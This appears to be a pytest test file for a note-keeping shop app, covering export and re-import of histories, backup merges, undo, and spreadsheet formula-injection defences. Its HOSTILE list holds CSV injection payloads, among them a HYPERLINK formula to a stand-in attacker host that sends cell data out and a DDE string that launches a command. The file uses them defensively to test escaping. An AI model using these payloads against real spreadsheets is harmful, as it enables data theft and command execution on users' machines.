"""Everything out in open forms, and back in the same; another history added, nothing doubled."""

import csv
import json
import random
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest

from handnote.domain.note import MadeBy, Note, Side
from handnote.domain.order import OrderId
from handnote.domain.problem import KeepTrouble, Problem
from handnote.domain.wish import Wish, WishKind
from handnote.ink.codec import encode
from handnote.readers.past_notes import read_past_notes
from handnote.services.histories import Added, Histories, Source
from handnote.storage import revisions, spelling
from handnote.storage.connection import is_sound
from handnote.storage.written_history import Form, as_it_was, harmless
from handnote.wording.histories import added as in_words
from tests.ink import handwriting
from tests.services.desk import (
    Desk,
    add_three_orders,
    desk_in,
    forgetting_on,
    proof_of,
    safekeeping_on,
    told,
)

FORMULA = re.compile("^[=+\\-@\t\r＝]")
HOSTILE = (
    '=HYPERLINK("http://attacker/?"&A1,"invoice")',
    '+HYPERLINK("http://attacker/?"&A1,"invoice")',
    '-HYPERLINK("http://attacker/?"&A1,"invoice")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\tHYPERLINK(1)",
    "\rHYPERLINK(1)",
    "\nHYPERLINK(1)",
    "＝1+1",
    "=cmd|'/C calc'!A0",
    'x","=1+1',
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "+44 20 7946 0958",
    "'tis",
    "''",
    "'",
    "",
    "a\r\nb\nc",
    'he said "no", twice',
    "\x1f\x7f\x85\u2028",
    "\U0001d49c \U0001f469\u200d\U0001f467 \ufdfd \u202etfel",
)


def histories_on(desk: Desk) -> Histories:
    return Histories(desk.store, desk.undo, read_list=read_past_notes)


def a_shop(desk: Desk) -> dict[str, OrderId]:
    """Three orders, two notes, a draft, a hello outside, a run, a correction and a memory."""
    ids = add_three_orders(desk)
    desk.draft(ids["maria"], "Mar")
    desk.finish(ids["maria"], "Maria, the blue one")
    desk.finish(ids["tom"], "Happy birthday")
    desk.finish(ids["maria"], "Hello", side=Side.OUTSIDE)
    run = desk.printing.record(proof_of(desk.printing.to_print()))
    desk.printing.answer(run.id, ())
    desk.draft(ids["anna"], "An")
    desk.correcting.add_parcel(ids["tom"])
    desk.composing.remember(desk.inbox.order(ids["maria"]).person_id, "likes blue")
    return ids


def add(desk: Desk, path: Path) -> Added:
    incoming = histories_on(desk).look(path)
    assert incoming is not None
    return histories_on(desk).add(incoming)


def texts(desk: Desk) -> list[str]:
    return [note.text for note in desk.past_notes.everything()]


@pytest.mark.parametrize("form", Form)
@pytest.mark.parametrize("with_private", [False, True])
def test_what_goes_out_comes_back_in_with_the_same_sum(
    tmp_path: Path, form: Form, with_private: bool
) -> None:
    out = tmp_path / f"everything.{form}"
    with desk_in(tmp_path / "old") as desk:
        a_shop(desk)
        for n, odd in enumerate(HOSTILE):
            desk.add(told(f"odd-{n}", odd.strip() or "x", words=odd), name=f"{n}.csv")
            plant(desk, f"odd-{n}", odd)
        gone_out = histories_on(desk).export(out, form, with_private=with_private)
        assert gone_out == histories_on(desk).content(with_private=with_private)
    with desk_in(tmp_path / "fresh") as desk:
        add(desk, out)
        assert histories_on(desk).content(with_private=with_private) == gone_out
        assert len(desk.inbox.orders()) == 4 + len(HOSTILE)
        assert desk.note(desk.order("1001").id).text == "Maria, the blue one"
        person = desk.composing.open(desk.order("1001").id).person
        assert person.memory == ("likes blue" if with_private else "")
        assert len(desk.printing.runs()) == 1
        assert [note.text for note in desk.past_notes.search("one").notes] == [
            "Maria, the blue one"
        ]
        assert desk.store.read(lambda c: is_sound(c, thoroughly=True))
        # Once more adds nothing.
        again = add(desk, out)
        assert not again.changes
        assert histories_on(desk).content(with_private=with_private) == gone_out


def plant(desk: Desk, number: str, words: str) -> None:
    """As it might be in a file of long ago, past every door."""
    desk.store.run(
        lambda c: c.execute(
            "UPDATE orders SET words = ?, buyer = ? WHERE number = ?", (words, words, number)
        )
    )


def test_private_lines_are_in_no_export_unless_that_is_asked(desk: Desk, tmp_path: Path) -> None:
    a_shop(desk)
    for form in Form:
        histories_on(desk).export(tmp_path / "out", form)
        assert b"likes blue" not in (tmp_path / "out").read_bytes()
        histories_on(desk).export(tmp_path / "out", form, with_private=True)
        assert b"likes blue" in (tmp_path / "out").read_bytes()


def test_no_cell_of_the_csv_is_a_formula_and_every_row_is_as_wide(
    desk: Desk, tmp_path: Path
) -> None:
    for n, odd in enumerate(HOSTILE):
        desk.add(told(f"odd-{n}", "x"), name=f"{n}.csv")
        plant(desk, f"odd-{n}", odd)
    histories_on(desk).export(tmp_path / "out.csv", Form.CSV)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if FORMULA.match(cell.lstrip())]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_harmless_cell_is_as_it_was_after_reading(cell: str) -> None:
    assert as_it_was(harmless(cell)) == cell
    assert not FORMULA.match(harmless(cell).lstrip())


def test_every_line_is_one_record_with_its_type(desk: Desk, tmp_path: Path) -> None:
    a_shop(desk)
    histories_on(desk).export(tmp_path / "out.jsonl", Form.JSONL)
    lines = (tmp_path / "out.jsonl").read_text("utf-8").splitlines()
    read = [json.loads(line) for line in lines]
    assert read[0]["type"] == "handnote-export"
    assert read[-1]["records"] == len(read) - 2
    assert {"person", "orders", "item", "note", "revision", "run", "run_label"} <= {
        record["type"] for record in read
    }
    secret = desk.store.read(lambda c: c.execute("SELECT hex(signing_key) FROM desk").fetchone()[0])
    assert secret.lower() not in "\n".join(lines).lower()


SPOIL: dict[str, Callable[[list[str]], list[str]]] = {
    "cut short": lambda lines: lines[:-1],
    "a line less": lambda lines: [*lines[:3], *lines[4:]],
    "a line twice": lambda lines: [*lines[:3], lines[2], *lines[3:]],
    "another word": lambda lines: [line.replace("blue", "green") for line in lines],
    "half a line": lambda lines: [*lines[:3], lines[3][: len(lines[3]) // 2], *lines[4:]],
    "more after the end": lambda lines: [*lines, lines[2]],
    "a later one": lambda lines: [lines[0].replace('"version": 1', '"version": 9'), *lines[1:]],
    "deep": lambda lines: [lines[0], "[" * 100_000, *lines[1:]],
    "a number that is none": lambda lines: [lines[0], '{"type": "note", "text": NaN}', *lines[1:]],
}


@pytest.mark.parametrize("kind", SPOIL)
def test_an_export_that_was_cut_or_changed_adds_nothing(
    kind: str, desk: Desk, tmp_path: Path
) -> None:
    a_shop(desk)
    out = tmp_path / "out.jsonl"
    histories_on(desk).export(out, Form.JSONL)
    out.write_text("\n".join(SPOIL[kind](out.read_text("utf-8").splitlines())) + "\n", "utf-8")
    before = histories_on(desk).content(with_private=True)
    with pytest.raises(Problem) as raised:
        histories_on(desk).look(out)
    assert raised.value.code in {
        KeepTrouble.BACKUP_DAMAGED,
        KeepTrouble.BACKUP_NEWER,
        KeepTrouble.HISTORY_WRONG_LINE,
    }
    assert histories_on(desk).content(with_private=True) == before


def test_two_histories_are_added_up_and_one_undo_takes_it_back(tmp_path: Path) -> None:
    carried = tmp_path / "carried.zip"
    with desk_in(tmp_path / "theirs") as desk:
        a_shop(desk)
        desk.finish(desk.walk_in("Ines"), "for Ines")
        safekeeping_on(desk).back_up_to(carried)
    with desk_in(tmp_path / "ours") as desk:
        desk.finish(desk.walk_in("Olaf"), "for Olaf")
        desk.add(told("1002", "Tom Ekberg"))
        desk.draft(desk.order("1002").id, "")
        before = histories_on(desk).content(with_private=True)
        done = add(desk, carried)
        assert done.source is Source.BACKUP
        assert set(texts(desk)) == {
            *("for Olaf", "for Ines", "Maria, the blue one", "Hello", "Happy birthday")
        }
        # Tom's order was here under its number: once, and with the note of the other desk.
        assert [order.number for order in desk.inbox.orders()].count("1002") == 2  # its 2nd parcel
        assert desk.note(desk.order("1002").id).text == "Happy birthday"
        assert len(desk.past_notes.search("ines").notes) == 1
        again = add(desk, carried)
        assert not again.changes
        assert desk.store.read(lambda c: is_sound(c, thoroughly=True))
        desk.undo.undo()
        assert texts(desk) == ["for Olaf"]
        assert desk.past_notes.search("ines").notes == ()
        assert histories_on(desk).content(with_private=True) == before
        assert desk.store.read(lambda c: is_sound(c, thoroughly=True))


def test_a_note_that_differs_stays_and_the_other_is_among_its_versions(tmp_path: Path) -> None:
    import shutil

    with desk_in(tmp_path / "a") as desk:
        maria = a_shop(desk)["maria"]
    shutil.copytree(tmp_path / "a", tmp_path / "b")
    with desk_in(tmp_path / "b") as desk:
        desk.composing.reopen(maria)
        desk.finish(maria, "written at the fair")
        safekeeping_on(desk).back_up_to(tmp_path / "b.zip")
    # Nothing was written here since: theirs is the newer one.
    with desk_in(tmp_path / "a") as desk:
        done = add(desk, tmp_path / "b.zip")
        assert desk.note(maria).text == "written at the fair"
        assert len(done.merged.newer) == 1
        desk.undo.undo()
        assert desk.note(maria).text == "Maria, the blue one"
        # Both went on from the same version: ours stays.
        desk.composing.reopen(maria)
        desk.finish(maria, "written at home")
        done = add(desk, tmp_path / "b.zip")
        assert desk.note(maria).text == "written at home"
        assert len(done.merged.beside) == 1
        assert {"written at home", "written at the fair"} <= versions(desk, desk.note(maria))
        assert "differed" in in_words(done)
        assert desk.store.read(lambda c: is_sound(c, thoroughly=True))


def versions(desk: Desk, note: Note) -> set[str]:
    return set(desk.store.read(lambda c: revisions.texts(c, note.id)))


def test_whoever_was_forgotten_here_is_not_brought_back(tmp_path: Path) -> None:
    with desk_in(tmp_path / "a") as desk:
        a_shop(desk)
        safekeeping_on(desk).back_up_to(tmp_path / "a.zip")
        histories_on(desk).export(tmp_path / "a.jsonl", Form.JSONL)
        forgetting_on(desk).forget(desk.order("1001").person_id)
        left = histories_on(desk).content(with_private=True)
        for name in ("a.zip", "a.jsonl"):
            done = add(desk, tmp_path / name)
            assert not done.merged.notes
        assert histories_on(desk).content(with_private=True) == left
        assert [t for t in texts(desk) if "Maria" in t] == []


def test_added_notes_stand_where_their_day_is(tmp_path: Path) -> None:
    listed = tmp_path / "old.csv"
    listed.write_text("Date,Name,Text\n2019-05-01,Ana,in May\n2018-01-02,Ben,in January\n")
    with desk_in(tmp_path / "a") as desk:
        desk.finish(desk.walk_in("Olaf"), "for Olaf")
        desk.finish(desk.walk_in("Ines"), "for Ines")
        done = add(desk, listed)
        assert texts(desk) == ["for Ines", "for Olaf", "in May", "in January"]
        assert in_words(done) == "2 notes from elsewhere, to be read added."
        assert len(desk.past_notes.search("ben").notes) == 1


def test_notes_from_elsewhere_are_read_and_never_printed_and_come_once(
    desk: Desk, tmp_path: Path
) -> None:
    listed = tmp_path / "old.csv"
    listed.write_text(
        "when;To;Message\n".replace("when", "Datum")
        + "1.5.2019;Ana;=a formula\n3/4/2019;Ben;same\n3/4/2019;Ben;same\n;Nobody;no day\n;;\n",
        "utf-8",
    )
    done = add(desk, listed)
    assert done.skipped == (5,)
    assert sorted(texts(desk)) == ["=a formula", "same", "same"]
    (first, *_) = desk.past_notes.everything()
    assert first.is_from_elsewhere
    assert desk.inbox.pile() == ()
    assert desk.printing.to_print() == ()
    for ask in (
        lambda: desk.composing.reopen(first.order_id),
        lambda: desk.finish(first.order_id, "now mine"),
        lambda: desk.draft(first.order_id, "now mine"),
    ):
        with pytest.raises(Problem) as raised:
            ask()
        assert raised.value.code is KeepTrouble.FROM_ELSEWHERE
    assert not add(desk, listed).changes
    assert {note.written_on for note in desk.past_notes.everything()} == {
        date(2019, 5, 1),
        date(2019, 4, 3),
    }
    desk.undo.undo()
    assert texts(desk) == []


def test_a_list_as_json_lines_is_read_too(desk: Desk, tmp_path: Path) -> None:
    listed = tmp_path / "old.jsonl"
    listed.write_text('{"date": "2020-02-29", "name": "Ana", "text": "a leap"}\nnot json\n')
    assert add(desk, listed).skipped == (2,)
    assert texts(desk) == ["a leap"]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\0" * 5000,
        b"\xff\xfe",
        b"a,b,c\n1,2,3\n",
        b'{"a": 1}\n',
        b"[" * 200_000,
        random.Random(7).randbytes(30_000),
        b"<html>" * 100,
    ],
)
def test_what_holds_no_notes_gets_a_sentence_and_adds_nothing(
    content: bytes, desk: Desk, tmp_path: Path
) -> None:
    listed = tmp_path / "odd.csv"
    listed.write_bytes(content)
    with pytest.raises(Problem) as raised:
        histories_on(desk).look(listed)
    assert raised.value.code is KeepTrouble.HISTORY_FOREIGN
    assert texts(desk) == []


def test_an_export_that_cannot_be_written_leaves_what_was_there(desk: Desk, tmp_path: Path) -> None:
    with pytest.raises(Problem) as raised:
        histories_on(desk).export(tmp_path / "none" / "out.csv", Form.CSV)
    assert raised.value.code is KeepTrouble.CANNOT_EXPORT
    with pytest.raises(Problem) as raised:
        histories_on(desk).export(desk.store.path, Form.CSV)
    assert raised.value.code is KeepTrouble.ONTO_ITSELF


def a_full_shop(desk: Desk) -> dict[str, OrderId]:
    """Beside all that ``a_shop`` has: ink, a promise, a wish, an answer, a word of her own."""
    ids = a_shop(desk)
    anna = desk.inbox.order(ids["anna"])
    desk.composing.finish(
        anna.id,
        "in ink",
        hand="caveat",
        made_by=MadeBy.INK,
        sign_off="",
        ink=encode(handwriting.note(4)),
    )
    maria = desk.note(ids["maria"])
    desk.promising.promise_in(maria.id, "the blue one")
    desk.wishing.wish(maria.person_id, [Wish(WishKind.NO_PLASTIC)])
    desk.answering.they_wrote_back(maria.id, "it is mine now")
    desk.store.run(lambda connection: spelling.add_word(connection, "thumbprinted"))
    return ids


def known_of(desk: Desk) -> tuple[object, ...]:
    anna, maria = desk.note(desk.order("1003").id), desk.note(desk.order("1001").id)
    return (
        anna.ink,
        [promise.words for promise in desk.promising.of_person(maria.person_id)],
        desk.wishing.of_person(maria.person_id),
        [answer.words for answer in desk.answering.to_note(maria.id)],
        desk.store.read(spelling.own_words),
    )


@pytest.mark.parametrize("form", Form)
def test_ink_promises_wishes_and_answers_come_along(tmp_path: Path, form: Form) -> None:
    out = tmp_path / f"everything.{form}"
    with desk_in(tmp_path / "old") as desk:
        a_full_shop(desk)
        before = known_of(desk)
        assert before[0]
        gone_out = histories_on(desk).export(out, form, with_private=True)
    with desk_in(tmp_path / "fresh") as desk:
        add(desk, out)
        assert histories_on(desk).content(with_private=True) == gone_out
        assert known_of(desk) == before
        assert desk.store.read(lambda connection: is_sound(connection, thoroughly=True))


def test_ink_comes_along_where_another_history_is_added(tmp_path: Path) -> None:
    with desk_in(tmp_path / "other") as desk:
        a_full_shop(desk)
        before = known_of(desk)
        one_file = tmp_path / "all.zip"
        safekeeping_on(desk).back_up_to(one_file)
    with desk_in(tmp_path / "desk") as desk:
        desk.finish(desk.walk_in("Ines", "scarf"), "mine stays")
        add(desk, one_file)
        assert known_of(desk) == before
        assert "mine stays" in texts(desk)
        assert desk.store.read(lambda connection: is_sound(connection, thoroughly=True))
        desk.undo.undo()
        assert texts(desk) == ["mine stays"]
